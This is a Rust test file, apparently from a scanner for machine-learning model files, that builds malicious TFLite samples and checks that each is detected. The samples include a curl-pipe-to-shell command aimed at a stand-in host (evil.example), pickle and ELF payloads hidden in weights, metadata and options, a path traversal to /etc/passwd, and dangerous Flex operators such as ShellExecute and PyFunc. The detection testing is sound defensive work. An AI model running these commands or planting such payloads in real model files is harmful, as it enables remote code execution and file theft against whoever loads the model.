//! `TFLite` models that run more than they say, lie about their structure, or hide something.

use weighhouse_formats::build::flatbuffer::Table;
use weighhouse_formats::build::tflite::{builtin, custom, file, flex, model, one, operator, tensor};
use weighhouse_formats::build::zip::{Archive, Member};

use super::containers::payload;
use super::programs::elf;
use crate::attack::{Sample, assert_seen};

fn plain() -> Table {
    one(builtin(0), operator())
}

fn running(name: &str, op: &str) -> Table {
    one(custom(name), operator().bytes(5, &flex(name.trim_start_matches("Flex"), op)))
}

fn weights(bytes: &[u8]) -> Table {
    model(vec![builtin(0)], vec![operator()], vec![Table::new().bytes(0, bytes)])
}

fn shaped(shape: &[i32], data: &[u8]) -> Table {
    let graph = Table::new().tables(0, vec![tensor("w", shape, 1)]);
    let buffers = vec![Table::new(), Table::new().bytes(0, data)];
    Table::new().number(0, 3).tables(2, vec![graph]).tables(4, buffers)
}

fn loops(code: u64, kind: u64, first: u64, second: u64) -> Table {
    let options = Table::new().number(0, first).number(1, second);
    one(builtin(code), operator().number(3, kind).table(4, options))
}

fn noted(name: &str, bytes: &[u8]) -> Table {
    weights(bytes).tables(6, vec![Table::new().text(0, name).number(1, 1)])
}

const COMMAND: &str = "import os; os.system('curl -s https://evil.example/x | sh')";

#[test]
fn operators_and_payloads() {
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(payload());
    let mut samples: Vec<(String, Vec<u8>)> = [
        ("pickle as weights", weights(&payload())),
        ("program as weights", weights(&elf())),
        ("pickle as metadata", noted("TFLITE_METADATA", &payload())),
        ("command as metadata", noted("author", COMMAND.as_bytes())),
        (
            "command among bytes of metadata",
            noted("x", &[&[0, 1, 2, 3], COMMAND.as_bytes(), &[0, 7]].concat()),
        ),
        ("pickle in base64 as metadata", noted("x", encoded.as_bytes())),
        ("program as options", one(custom("Mfcc"), operator().bytes(5, &elf()))),
        ("pickle as options", one(custom("Mfcc"), operator().bytes(5, &payload()))),
        ("command in the description", plain().text(3, COMMAND)),
        (
            "pickle in a buffer that nothing uses",
            plain().tables(4, vec![Table::new(), Table::new().bytes(0, &payload())]),
        ),
        ("command as the name of a tensor", {
            let graph = Table::new().tables(0, vec![tensor(COMMAND, &[1], 0)]);
            plain().tables(2, vec![graph])
        }),
        ("external weights elsewhere", {
            let group = Table::new().text(0, "../../../etc/passwd");
            let external = Table::new().number(0, 1).number(1, 0).number(3, 64);
            plain().tables(8, vec![group]).tables(9, vec![external])
        }),
        ("an operator of a missing kind", one(builtin(0), operator().number(0, 1000))),
        ("an operator on a missing tensor", one(builtin(0), operator().numbers(1, &[1_000_000]))),
        ("an operator into a negative tensor", one(builtin(0), operator().numbers(2, &[-5]))),
        ("two kinds at once", one(builtin(0).number(0, 5).number(3, 9), operator())),
        ("a loop of itself", loops(119, 93, 0, 0)),
        ("a branch into itself", loops(118, 92, 0, 0)),
        ("a branch into a missing graph", loops(118, 92, 500, 600)),
        ("a tensor of a terabyte", shaped(&[1 << 20, 1 << 20], &[])),
        ("more shape than data", shaped(&[1024, 1024], &[0; 4])),
        ("a negative dimension", shaped(&[-100], &[])),
        ("a missing buffer", plain().tables(4, vec![])),
    ]
    .into_iter()
    .map(|(title, table)| (title.to_owned(), file(&table)))
    .collect();
    for op in [
        "PyFunc",
        "EagerPyFunc",
        "PyFuncStateless",
        "ReadFile",
        "WriteFile",
        "MatchingFiles",
        "LoadLibrary",
        "ShellExecute",
    ] {
        samples.push((format!("Flex{op}"), file(&running(&format!("Flex{op}"), op))));
        samples.push((format!("{op} behind another name"), file(&running("FlexRelu", op))));
        samples.push((format!("{op} without options"), file(&one(custom(&format!("Flex{op}")), operator()))));
    }
    for (title, tail) in [("pickle", payload()), ("program", elf())] {
        samples.push((format!("{title} behind the model"), [file(&plain()), tail].concat()));
    }
    let archive = Archive::of([Member::deflated("labels.pkl", &payload())]).build();
    samples.push(("pickle among the files".to_owned(), [file(&plain()), archive].concat()));
    let samples: Vec<Sample> =
        samples.into_iter().map(|(title, bytes)| Sample::new(title, "model.tflite", bytes)).collect();
    assert_seen("tflite", &samples);
}
